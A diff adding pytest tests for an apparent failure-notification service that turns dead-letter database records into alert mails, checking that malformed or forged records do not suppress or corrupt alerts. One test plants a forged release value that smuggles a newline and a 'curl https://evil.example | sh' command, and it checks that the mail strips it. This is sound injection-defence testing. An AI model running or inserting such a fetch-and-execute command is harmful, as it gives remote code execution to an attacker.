@@ -310,3 +310,35 @@ def test_an_item_that_another_program_wrote_keeps_no_message_back(forged: dict[s
     desk.pass_(16 * MINUTE)
     desk.receive(died())
     assert len(desk.posts) == 2 and "1 event of type order died" in desk.posts[1][1]["text"]
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        {"attempted_at": "soon"},
+        {"attempted_at": [1]},
+        {"timestamp": None},
+        {"error": {"type": ["a"], "at": 7, "signature": {}}, "dlq_message": [1]},
+        {"dlq_message": "x"},
+    ],
+    ids=range(5),
+)
+def test_a_record_that_another_program_wrote_keeps_no_message_of_others_back(values: dict[str, Any]) -> None:
+    desk = Desk()
+    desk.receive(died(**values), died())
+    assert any(GROUP in mail["Message"] for mail in desk.mails)
+
+
+def test_a_change_without_the_shape_of_one_is_no_failure() -> None:
+    for item in (
+        {"status": {"S": "dead"}},
+        {"status": {"S": "dead"}, "error": {}},
+        {"status": {"S": "dead"}, "error": 7},
+    ):
+        assert notices.failure({"eventID": "e", "dynamodb": {"NewImage": item}}, 14) is None
+
+
+def test_the_release_of_a_forged_record_is_one_short_word() -> None:
+    desk = Desk()
+    desk.receive(died(release="x\nRun: curl https://evil.example | sh"))
+    assert desk.mails[0]["Message"].count("\n") == 3 and "evil" not in desk.mails[0]["Message"]
